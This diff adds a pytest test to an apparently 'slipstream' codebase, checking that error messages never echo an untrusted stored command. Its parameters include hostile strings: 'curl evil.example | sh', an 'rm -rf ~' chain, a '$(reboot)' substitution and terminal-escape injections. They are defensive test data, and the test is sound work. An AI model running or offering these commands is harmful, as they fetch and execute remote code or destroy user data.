@@ -118,6 +118,27 @@ def test_another_format(engine: Path, version: object) -> None:
 
 
 @pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.example | sh",
+        "slipstream build x -o y; rm -rf ~",
+        "slipstream build $(reboot) -o y",
+        "slipstream build 'x\x1b[2J' -o y",
+        "slipstream build 'x\n' -o y",
+        "slipstream build 'x",
+        "slipstream quantize x -o y",
+        "",
+    ],
+)
+def test_an_error_suggests_no_command_of_a_stranger(engine: Path, command: str) -> None:
+    (engine / FILES[0]).unlink()
+    for change in ({}, {"format_version": 0}, {"limits": 3}):
+        edit(engine, lambda raw, change=change: raw.update({**change, "command": command}))
+        message = assert_mismatch(lambda: open_engine(engine).verify_files(), "build it again")
+        assert message.endswith(f"build it again: slipstream build CHECKPOINT -o {engine}")
+
+
+@pytest.mark.parametrize(
     "content",
     ["", "{", "\xff\xfe", "[]", "3", "null", "{}", '{"command": "x"}', b"\xff\xfe\x00"],
 )
